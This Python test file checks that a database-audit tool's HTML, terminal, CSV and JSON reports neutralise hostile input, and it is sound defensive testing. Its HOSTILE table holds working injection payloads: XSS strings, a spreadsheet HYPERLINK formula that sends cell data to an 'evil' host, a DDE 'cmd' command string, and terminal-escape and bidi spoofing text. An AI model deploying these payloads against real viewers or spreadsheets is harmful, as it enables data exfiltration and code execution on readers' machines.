"""What clients send cannot act on whoever reads a report, whatever it is shown with."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from html import escape
from html.parser import HTMLParser

import orjson
import pytest

from dbguard.audit.records import (
    ColumnEntry,
    EventRecord,
    IdentityEntry,
    MaskEntry,
    OutcomeRecord,
    RecordKind,
)
from dbguard.report import Report, build, document, html, spreadsheets
from dbguard.report.wording import View
from tests.report.test_build import DENIED, MASKED, shown, stored

HOSTILE = {
    "script": "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "attribute": '"><svg onload=alert(1)> \' style="background:url(//evil)"',
    "formula": '=HYPERLINK("http://evil/"&A1)',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "ansi": "\x1b[2J\x1b]0;title\x07\x9b31m\x7f",
    "bidi": "x\u202egnp.exe\u2066\u200b\u200e",
    "markup": "[red]x[/red] [/]",
    "template": "{{ 7*7 }}{% raw %}",
    "lines": "a\r\nb\u2028c\x00d",
    "csv": 'a","b\r\n-1',
}
CONTROLS = {chr(c) for c in (*range(32), *range(127, 160))} - {"\n", "\r"} | set(
    "\u202e\u2066\u200b\u200e\u2028"
)


def report_of(text: str) -> Report:
    identity = IdentityEntry(text, text, (text,))
    tagged = ColumnEntry(text, ("output",), (text,))
    decision = replace(
        DENIED, text=text, relations=(text,), columns=(tagged,), rules=(text,), identity=identity,
        reasons=(f"{text}: {text}",), hints=(text,), fingerprint=text, application=text,
    )  # fmt: skip
    allowed = replace(
        decision, decision="allow", reasons=(), hints=(), action="alter", requirements=(text,)
    )
    masked = replace(MASKED, identity=identity, masked=(MaskEntry(text, text, text),), text=text)
    fields = ((text, text), ("event", text), ("user", text), ("result", text))
    kinds = set(RecordKind) - {RecordKind.DECISION, RecordKind.OUTCOME, RecordKind.CONNECT}
    return build(
        stored(
            decision,
            allowed,
            OutcomeRecord("a", 2, text, 5_000, "", 1),
            masked,
            *(EventRecord(kind, text, fields) for kind in sorted(kinds)),
        )
    )


REPORTS = [pytest.param(report_of(text), id=name) for name, text in HOSTILE.items()]


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


@pytest.mark.parametrize("report", REPORTS)
def test_html(report: Report) -> None:
    page = html.render(report, View()).decode()
    tags = Tags()
    tags.feed(page)
    names = [name for name, _ in tags.found]
    assert names.count("script") == names.count("style") == 1
    assert not {"img", "iframe", "object", "link", "base", "form"} & set(names)
    for _, attributes in tags.found:
        assert not [name for name in attributes if name.startswith("on") or name == "style"]
        assert "src" not in attributes
        assert (attributes.get("href") or "#").startswith("#")
    assert not set(page) & CONTROLS


def test_html_shows_markup_and_templates_as_they_are() -> None:
    for name in ("script", "template"):
        page = html.render(report_of(HOSTILE[name]), View()).decode()
        assert escape(HOSTILE[name]) in page


@pytest.mark.parametrize("report", REPORTS)
def test_terminal(report: Report) -> None:
    text = shown(report)
    assert not set(text) & (CONTROLS | {"\r"})


@pytest.mark.parametrize("report", REPORTS)
def test_csv(report: Report) -> None:
    for data in (*spreadsheets.rendered(report).values(), spreadsheets.in_one(report)):
        text = data.decode()
        assert not set(text) & CONTROLS
        rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
        assert len({len(row) for row in rows}) == 1
        for row in rows:
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("report", REPORTS)
def test_json(report: Report) -> None:
    data = document.render(report)
    assert not set(data.decode()) & (CONTROLS | {"\r"})
    text = orjson.loads(data)["report"]["blocked"]["shapes"][0]["text"]
    assert text == report.blocked.shapes[0].text  # escaped, not lost


def test_formulas_are_text_and_figures_stay_figures() -> None:
    rows = spreadsheets.rendered(report_of(HOSTILE["formula"]))["blocked_by.csv"].decode()
    assert "'=HYPERLINK(" in rows
    assert rows.splitlines()[1].split(",")[-2] == "1"
